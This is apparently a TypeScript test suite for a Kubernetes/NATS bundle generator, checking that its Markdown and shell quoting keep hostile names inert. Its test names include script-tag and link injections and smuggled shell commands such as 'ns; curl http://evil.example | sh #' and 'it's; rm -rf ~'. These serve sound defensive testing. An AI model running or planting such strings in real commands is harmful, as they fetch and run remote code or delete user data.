// Finding 9: the READMEs show every name as itself, proved with a real Markdown renderer (GitHub-flavoured, as the
// bundle is read) and a real shell: a name can open no tag, link or table cell, and a copied command gets it as one
// word.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { marked } from 'marked';
import { BUNDLE_PATHS, parseTopology, renderBundle, renderLocalTarget, type Topology } from '../src/core';
import { mdCode, mdText } from '../src/core/quote/markdown';
import { shellWord } from '../src/core/quote/shell';
import { hostileString } from './support/hostile';

const NAMES = [
  '</h1><script>window.x=1</script>',
  '<b>bold</b>',
  '[link](http://evil.example)',
  '![img](http://evil.example/x.png)',
  '*em* _em_',
  'a|b',
  'c`d',
  '``',
  '` x `',
  ' lead',
  'trail ',
  '\\|',
  '&amp;',
  '&#60;',
  '# heading',
  '- item',
  '> quote',
  '~~s~~',
  '$(id)',
  '`id`',
  "it's",
  'ns; curl http://evil.example | sh #',
  'ünï',
  '😀',
  'a\\',
  '*',
  '_',
];
const GENERATED = fc.sample(hostileString, { numRuns: 200, seed: 99 });

/** The text of rendered HTML: tags dropped, character references read. */
function textOf(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&#(\d+);/g, (_m, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&');
}

/** The tags of rendered HTML. */
function tagsOf(html: string): string[] {
  return [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map((m) => m[1].toLowerCase());
}

describe('Markdown quoting', () => {
  it.each([...NAMES, ...GENERATED].map((n) => [n]))('shows %j as itself, as text, as code and in a table cell', (name) => {
    // eslint-disable-next-line no-control-regex
    const shown = name.replace(/[\u0000-\u001f\u007f]/g, '\ufffd').replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
    // As text: no tag at all, and the name
    const text = marked.parseInline(`x ${mdText(name)} x`) as string;
    expect(tagsOf(text)).toEqual([]);
    expect(textOf(text)).toBe(`x ${shown} x`);
    // As a heading, whose ends a renderer trims
    const heading = marked.parse(`# ${mdText(name)}`) as string;
    expect(tagsOf(heading)).toEqual(['h1', 'h1']);
    expect(textOf(heading)).toBe(`${shown}\n`);
    // As code: one code element holding the name
    const code = marked.parseInline(`x ${mdCode(name)} x`) as string;
    expect(tagsOf(code)).toEqual(['code', 'code']);
    expect(textOf(code)).toBe(`x ${shown} x`);
    // In a table: still two cells, each the name
    const table = marked.parse(`| a | b |\n|---|---|\n| ${mdCode(name, true)} | ${mdText(name)} |\n`) as string;
    const cells = [...table.matchAll(/<td>([\s\S]*?)<\/td>/g)].map((m) => m[1]);
    expect(cells).toHaveLength(2);
    expect(tagsOf(cells[0])).toEqual(['code', 'code']);
    expect(tagsOf(cells[1])).toEqual([]);
    expect(cells.map(textOf)).toEqual([shown, shown]);
  });
});

describe('shell quoting', () => {
  it('gives sh every name as one word, itself', () => {
    // eslint-disable-next-line no-control-regex
    const names = [...NAMES, ...GENERATED].filter((n) => !/[\u0000\ud800-\udfff]/.test(n));
    const script = `printf '%s\\0' ${names.map(shellWord).join(' ')}`;
    const words = execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
    expect(words).toEqual(names);
  });
});

function forced(data: Record<string, unknown>): Topology {
  const r = parseTopology({ version: 1, ...data });
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.topology;
}

/** Runs a README's command line with `kubectl` standing for a printer of its arguments. */
function argumentsOf(line: string): string[] {
  const out = execFileSync('sh', ['-c', `kubectl() { printf '%s\\0' "$@"; }\n${line.replace(/^kill \$PF; /, '').replace(/ &( PF=\$!)?$/, '')}`], {
    encoding: 'utf8',
  });
  return out.split('\0').slice(0, -1);
}

/** The tables of rendered HTML: each a list of rows, each a list of cell HTML (header row first). */
function tablesOf(html: string): string[][][] {
  return [...html.matchAll(/<table>([\s\S]*?)<\/table>/g)].map((t) =>
    [...t[1].matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) => [...r[1].matchAll(/<t[hd][^>]*>([\s\S]*?)<\/t[hd]>/g)].map((c) => c[1])),
  );
}

describe('the bundle README of a design forced past the lint', () => {
  const ns = 'ns; curl http://evil.example | sh #';
  const t = forced({
    name: '</h1><script>window.x=1</script>',
    namespace: ns,
    clusters: [{ name: 'a|b' }, { name: 'c`d' }, { name: '<b>e</b>' }],
    gateways: [['a|b', 'c`d']],
    accounts: [{ name: 'APP', users: ['u`1', 'v|2', '<i>w</i>'] }],
  });
  const readme = renderBundle(t).find((f) => f.path === 'README.md')!.content;
  const html = marked.parse(readme) as string;

  it('has a heading with the name as text, and no HTML of a name anywhere', () => {
    expect(textOf(/<h1>([\s\S]*?)<\/h1>/.exec(html)![1])).toBe(`${t.name}: NATS on Kubernetes`);
    expect(
      tagsOf(html).filter((tag) => !['h1', 'h2', 'p', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'h3', 'strong'].includes(tag)),
    ).toEqual([]);
  });

  it('lists each cluster file as it is written, in cells of their own', () => {
    const [files] = tablesOf(html);
    const paths = files.slice(1).map((row) => textOf(row[0]));
    const written = new Set(renderBundle(t).map((f) => f.path));
    for (const c of t.clusters) expect(paths).toContain(BUNDLE_PATHS.clusterManifest(c.name));
    for (const p of paths.filter((x) => x.startsWith('clusters/'))) expect(written.has(p)).toBe(true);
    expect(files.slice(1).map((row) => textOf(row[1]).split(':')[0])).toEqual(expect.arrayContaining(t.clusters.map((c) => `cluster ${c.name}`)));
  });

  it('gives every row of every table the cells of its header', () => {
    const tables = tablesOf(html);
    expect(tables.length).toBeGreaterThanOrEqual(3);
    for (const [header, ...rows] of tables) for (const row of rows) expect(row).toHaveLength(header.length);
  });

  it('gives every command the namespace and the objects as single words', () => {
    // Every command with a real object: the day-2 port-forward to `svc/<the cluster>` is a placeholder to fill in.
    const commands = readme.split('\n').filter((l) => /^(kill \$PF; )?kubectl (rollout status|port-forward)/.test(l) && !l.includes('<the cluster>'));
    expect(commands.length).toBe(9);
    for (const line of commands) {
      const args = argumentsOf(line);
      expect(args[args.indexOf('-n') + 1]).toBe(ns);
      expect(args.some((a) => /^(statefulset|pod|svc)\/nats-(a\|b|c`d|<b>e<\/b>)(-0)?$/.test(a))).toBe(true);
    }
  });
});

describe('the local README of a design forced past the lint', () => {
  it('shows the topology name and the users as themselves', () => {
    const t = forced({ name: '<b>x</b> | *y*', clusters: [{ name: 'a' }], accounts: [{ name: 'APP', users: ["it's; rm -rf ~", 'b'] }] });
    const readme = renderLocalTarget(t, undefined).find((f) => f.path === 'local/README.md')!.content;
    const html = marked.parse(readme) as string;
    expect(textOf(/<h1>([\s\S]*?)<\/h1>/.exec(html)![1])).toBe(`Run ${t.name} locally`);
    const connect = readme.split('\n').find((l) => l.startsWith('nats --server') && l.includes('--user'))!;
    const args = execFileSync('sh', ['-c', `nats() { printf '%s\\0' "$@"; }\n${connect.replace(/ {2,}#.*$/, '')}`], { encoding: 'utf8' }).split('\0');
    expect(args[args.indexOf('--user') + 1]).toBe("it's; rm -rf ~");
  });
});

describe('the monitoring and nats-box sections of a design forced past the lint', () => {
  const ns = 'ns; curl http://evil.example | sh #';
  const t: Topology = {
    ...forced({
      name: 'x',
      namespace: ns,
      clusters: [{ name: 'a|b' }, { name: "c'd" }],
      gateways: [['a|b', "c'd"]],
      accounts: [{ name: 'APP', users: ['u'] }],
    }),
    monitoring: { exporter: true },
    natsBox: true,
  };
  const readme = renderBundle(t).find((f) => f.path === 'README.md')!.content;

  it('gives kubectl the namespace and the nats CLI each address as one word, also inside sh -c', () => {
    const lines = readme.split('\n').filter((l) => l.startsWith('kubectl exec'));
    expect(lines).toHaveLength(3);
    for (const line of lines) {
      const args = argumentsOf(line);
      expect(args.slice(0, 4)).toEqual(['exec', '-n', ns, 'deploy/nats-box']);
    }
    const script = argumentsOf(lines[2]).at(-1)!;
    const inner = execFileSync('sh', ['-c', `nats() { printf '%s\\0' "$@"; }\n${script}`], { encoding: 'utf8' })
      .split('\0')
      .slice(0, -1);
    expect(inner).toContain(`nats://nats-c'd.${ns}.svc.cluster.local:4222`);
    expect(inner).toContain(`nats://nats-a|b.${ns}.svc.cluster.local:4222`);
    expect(inner).toContain("pong from c'd");
  });

  it('gives the port-forward to the exporter the namespace and the pod as single words', () => {
    const line = readme.split('\n').find((l) => l.startsWith('kubectl port-forward') && l.includes('7777'))!;
    const args = argumentsOf(line);
    expect(args).toEqual(['port-forward', '-n', ns, 'pod/nats-a|b-0', '7777:7777']);
  });
});
